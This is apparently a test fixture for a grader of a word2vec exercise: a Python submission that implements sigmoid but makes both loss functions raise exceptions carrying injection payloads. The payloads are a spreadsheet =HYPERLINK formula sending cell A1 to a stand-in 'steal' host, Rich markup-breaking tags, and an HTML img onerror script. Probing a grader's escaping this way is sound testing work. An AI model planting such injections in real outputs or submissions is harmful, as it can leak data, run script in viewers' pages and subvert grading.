"""Attack: text the grader shows, chosen to break each format it is shown in: an exception type named like a
spreadsheet formula and rich markup, a message with Markdown and HTML.  sigmoid is correct."""
import numpy as np

Formula = type('=HYPERLINK("http://example.invalid/steal?"&A1,"[bold red]click[/]")', (Exception,), {})
Markup = type("[/][link=http://example.invalid]x[/link]", (Exception,), {})


def sigmoid(x):
    return 1 / (1 + np.exp(-x))


def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    raise Formula("</code>**bold** <img src=x onerror=alert(1)> `tick` [/]")


def negSamplingLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset, K=10):
    raise Markup("[red]unclosed")
